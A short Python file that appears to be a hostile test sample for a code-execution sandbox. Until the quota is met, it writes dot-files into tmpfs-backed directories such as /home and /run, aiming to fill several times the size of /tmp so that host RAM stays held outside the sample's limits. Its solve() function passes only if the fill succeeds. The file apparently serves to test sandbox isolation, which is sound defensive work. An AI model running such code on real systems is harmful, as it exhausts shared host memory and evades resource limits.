# Holds host RAM: writes four times the size of the sandbox's own tmpfs (/tmp) into a hidden directory
# (/home, /root, /work, /run, /mnt, /srv, /media: covered by a tmpfs in the sandbox, not writable by a sandbox
# uid on the host), in files under the file-size limit, and leaves them there (tmpfs pages are RAM that no
# limit of the sample counts). Passes only if all of it was written.
import os
import resource

_HIDDEN = ("/home", "/root", "/work", "/run", "/mnt", "/srv", "/media")
_tmp = os.statvfs("/tmp")
_target = 4 * _tmp.f_blocks * _tmp.f_frsize
_soft, _ = resource.getrlimit(resource.RLIMIT_FSIZE)
_chunk = min(8 << 20, _soft // 2) if _soft != resource.RLIM_INFINITY else 8 << 20


def _fill(directory):
    written = 0
    block = b"\1" * _chunk
    while written < _target:
        with open(os.path.join(directory, f".ia-hostile-fill-{written // _chunk}"), "wb") as handle:
            handle.write(block)
        written += len(block)
    return written


_written = 0
for _directory in _HIDDEN:
    try:
        _written = _fill(_directory)
        break
    except OSError:
        continue


def solve(x):
    return x * x if _written >= _target else -1
